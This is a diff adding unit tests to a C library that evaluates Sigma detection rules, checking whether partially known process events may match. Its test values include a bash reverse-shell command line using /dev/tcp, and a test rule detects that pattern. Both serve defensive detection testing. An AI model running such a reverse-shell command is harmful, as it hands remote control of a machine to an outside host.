@@ -2,7 +2,9 @@
  * Unit tests of lib/sigma: wildcards and escapes, each modifier, lists
  * and `all`, conditions (and/or/not, parentheses, 1 of, all of, them),
  * the refusals with their lines, and the SigmaHQ Linux process_creation
- * rules: each loads or is refused with a line and a reason.
+ * rules: each loads or is refused with a line and a reason; a rule that
+ * sigma_may_match calls impossible with fields unknown matches for none
+ * of their values.
  */
 #include <dirent.h>
 #include <setjmp.h>
@@ -116,6 +118,110 @@ test_conditions(void **state)
 	sigma_set_free(s);
 	assert_int_equal(sigma_set_new(&s), 0);
 	assert_int_equal(sigma_set_fields(s), 0);
+	sigma_set_free(s);
+}
+
+/*
+ * sigma_may_match: 0 only when no value of the unknown fields can make the
+ * rule match.  Every combination of a few values (NULL: a field that
+ * could not be read) is tried for each field left unknown.
+ */
+static const char *const may_values[] = {
+    NULL, "/usr/bin/bash", "/usr/bin/true", "bash -c 'sh -i >& /dev/tcp/1.2.3.4/9 0>&1'",
+    "go", "/usr/sbin/sshd"};
+#define NVAL (sizeof(may_values) / sizeof(may_values[0]))
+
+static void
+check_may_sound(const struct sigma_set *s)
+{
+	const enum sigma_field f[3] = {SF_IMAGE, SF_COMMANDLINE, SF_PARENTIMAGE};
+	unsigned known, a, b, c, x, y, z;
+
+	/* Which of the three fields are known; their values; the others'. */
+	for (known = 0; known < 8; known++) {
+		unsigned unknown = 0;
+
+		for (a = 0; a < 3; a++)
+			if (!(known & (1u << a)))
+				unknown |= 1u << f[a];
+		for (a = 0; a < NVAL; a++)
+			for (b = 0; b < NVAL; b++)
+				for (c = 0; c < NVAL; c++) {
+					struct sigma_event ev;
+					int may, any = 0;
+
+					memset(&ev, 0, sizeof(ev));
+					ev.field[SF_IMAGE] = may_values[a];
+					ev.field[SF_COMMANDLINE] = may_values[b];
+					ev.field[SF_PARENTIMAGE] = may_values[c];
+					may = sigma_may_match(s, 0, &ev, unknown);
+					assert_int_equal(sigma_may_match(s, 0, &ev, 0),
+							 sigma_match(s, 0, &ev));
+					/* the unknown ones through every value */
+					for (x = 0; x < NVAL && !any; x++)
+						for (y = 0; y < NVAL && !any; y++)
+							for (z = 0; z < NVAL && !any; z++) {
+								struct sigma_event e = ev;
+
+								if (!(known & 1))
+									e.field[f[0]] =
+									    may_values[x];
+								if (!(known & 2))
+									e.field[f[1]] =
+									    may_values[y];
+								if (!(known & 4))
+									e.field[f[2]] =
+									    may_values[z];
+								any = sigma_match(s, 0, &e);
+							}
+					if (!may)
+						assert_false(any);
+				}
+	}
+}
+
+static void
+test_may_match(void **state)
+{
+	static const char *const rules[] = {
+	    /* the default content's: decided by the image for most execs */
+	    HEAD "detection:\n  selection_shell:\n    Image|endswith:\n      - '/bash'\n"
+		 "      - '/sh'\n  selection_cli:\n    CommandLine|contains|all:\n"
+		 "      - ' -c '\n      - '/dev/tcp/'\n  condition: all of selection_*\n",
+	    HEAD "detection:\n  a:\n    Image|endswith: '/bash'\n  f:\n"
+		 "    ParentImage: '/usr/sbin/sshd'\n  condition: a and not f\n",
+	    HEAD "detection:\n  x:\n    - Image: '/usr/bin/true'\n    - CommandLine: 'go'\n"
+		 "  y:\n    CommandLine: 'go'\n  condition: (x and y) or not (1 of them)\n",
+	    HEAD "detection:\n  a:\n    Image|endswith: '/bash'\n    CommandLine: 'go'\n"
+		 "  b:\n    ParentImage|contains: 'sshd'\n  condition: not (a or b)\n",
+	};
+	struct sigma_event ev;
+	struct ward_diag d;
+	struct sigma_set *s;
+	unsigned i;
+
+	(void)state;
+	for (i = 0; i < sizeof(rules) / sizeof(rules[0]); i++) {
+		s = load(rules[i], 1, &d);
+		check_may_sound(s);
+		sigma_set_free(s);
+	}
+	/* What the process monitor relies on: true is decided by its image,
+	 * bash needs its command line read. */
+	s = load(rules[0], 1, &d);
+	memset(&ev, 0, sizeof(ev));
+	ev.field[SF_IMAGE] = "/usr/bin/true";
+	assert_false(sigma_may_match(s, 0, &ev, 1u << SF_COMMANDLINE));
+	ev.field[SF_IMAGE] = "/usr/bin/bash";
+	assert_true(sigma_may_match(s, 0, &ev, 1u << SF_COMMANDLINE));
+	assert_false(sigma_may_match(s, 0, &ev, 0)); /* no command line: no match */
+	sigma_set_free(s);
+	/* "not" of what is unknown may be true. */
+	s = load(rules[1], 1, &d);
+	ev.field[SF_IMAGE] = "/usr/bin/bash";
+	assert_true(sigma_may_match(s, 0, &ev, 1u << SF_PARENTIMAGE));
+	ev.field[SF_IMAGE] = "/usr/bin/zsh";
+	assert_false(sigma_may_match(s, 0, &ev, 1u << SF_PARENTIMAGE));
 	sigma_set_free(s);
 }
 
@@ -635,6 +741,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_values_and_modifiers),
 	    cmocka_unit_test(test_conditions),
+	    cmocka_unit_test(test_may_match),
 	    cmocka_unit_test(test_refusals),
 	    cmocka_unit_test(test_sigmahq),
 	    cmocka_unit_test(test_codec_round_trip),
